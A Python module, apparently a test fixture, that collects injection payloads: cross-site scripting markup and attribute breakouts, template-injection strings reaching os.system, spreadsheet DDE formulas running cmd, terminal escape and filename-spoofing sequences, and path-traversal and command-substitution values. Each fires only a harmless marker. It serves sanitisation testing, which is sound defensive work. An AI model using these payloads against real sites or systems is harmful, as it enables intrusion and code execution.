"""Hostile texts, each of which would do something if a page, a sheet or a terminal took it for more than text.

What fires in a browser sets ``window.fired``; what fires on a system would leave the file ``FIRED``. The forms are
those of the public collections: markup, attributes, addresses, templates, style, comments, encodings, formulas,
terminals, paths.
"""

from __future__ import annotations

FIRE = "window.fired=1"
MARKUP = (
    f"<script>{FIRE}</script>",
    f"</script><script>{FIRE}</script>",
    f"</title><script>{FIRE}</script>",
    f"</style><script>{FIRE}</script>",
    f"</textarea><script>{FIRE}</script>",
    f"--><script>{FIRE}</script>",
    f"]]><script>{FIRE}</script>",
    f"<img src=x onerror={FIRE}>",
    f"\"><img src=x onerror='{FIRE}'>",
    f'\'><img src=x onerror="{FIRE}">',
    f"<svg onload={FIRE}>",
    f"</svg><svg/onload={FIRE}>",
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>",
    f"<body onload={FIRE}>",
    "<iframe srcdoc='<script>parent.fired=1</script>'></iframe>",
    "<iframe src=javascript:parent.fired=1></iframe>",
    f"<object data='javascript:{FIRE}'></object>",
    f"<embed src='javascript:{FIRE}'>",
    f"<details open ontoggle={FIRE}>x</details>",
    f"<input autofocus onfocus={FIRE}>",
    f"<video><source onerror={FIRE}></video>",
    f"<audio src=x onerror={FIRE}></audio>",
    f"<marquee onstart={FIRE}>x</marquee>",
    f"<math><mtext></mtext><mglyph><style></math><img src onerror={FIRE}>",
    f"<style>@import 'javascript:{FIRE}';</style>",
    f"<link rel=stylesheet href='data:text/css,*{{background:url(javascript:{FIRE})}}'>",
    f"<base href='javascript:{FIRE}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{FIRE}'>",
    f"<form action='javascript:{FIRE}'><button autofocus>x</button></form>",
    f"<a href='javascript:{FIRE}' id=go>x</a>",
    f"<template shadowrootmode=open><script>{FIRE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={FIRE}>'>",
)
ATTRIBUTES = (
    f'" onmouseover="{FIRE}" x="',
    f"' onfocus='{FIRE}' autofocus x='",
    f"x` onerror=`{FIRE}`",
    f"javascript:{FIRE}",
    f"java\tscript:{FIRE}",
    f"data:text/html,<script>{FIRE}</script>",
    f"&lt;script&gt;{FIRE}&lt;/script&gt;",
    f"&#60;script&#62;{FIRE}&#60;/script&#62;",
    f"\\u003cscript\\u003e{FIRE}\\u003c/script\\u003e",
    f"%3Cscript%3E{FIRE}%3C/script%3E",
    f"＜script＞{FIRE}＜/script＞",
)
TEMPLATES = (
    "{{7*7}}{{cycler.__init__.__globals__.os.system('touch FIRED')}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__.__init__.__globals__}",
    "%(key)s %n %x",
    f"[x](javascript:{FIRE})",
    f"$$\\href{{javascript:{FIRE}}}{{x}}$$",
)
FORMULAS = (
    '=HYPERLINK("http://127.0.0.1/";"x")',
    "=cmd|'/c touch FIRED'!A1",
    "+1+cmd|'/c touch FIRED'!A1",
    "-2+3+cmd|'/c touch FIRED'!A1",
    "@SUM(1+1)*cmd|'/c touch FIRED'!A1",
)
TERMINAL = (
    "\x1b[2J\x1b[1;1Hhapus",
    "\x1b]0;judul\x07",
    "\x1b]8;;http://127.0.0.1/\x1b\\x\x1b]8;;\x1b\\",
    "balik \u202egnp.exe",
)
PATHS = ("../../../../etc/FIRED", "$(touch FIRED)", "`touch FIRED`; touch FIRED #", "a|touch FIRED", "..\\..\\FIRED")
PAYLOADS = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *FORMULAS, *TERMINAL, *PATHS)
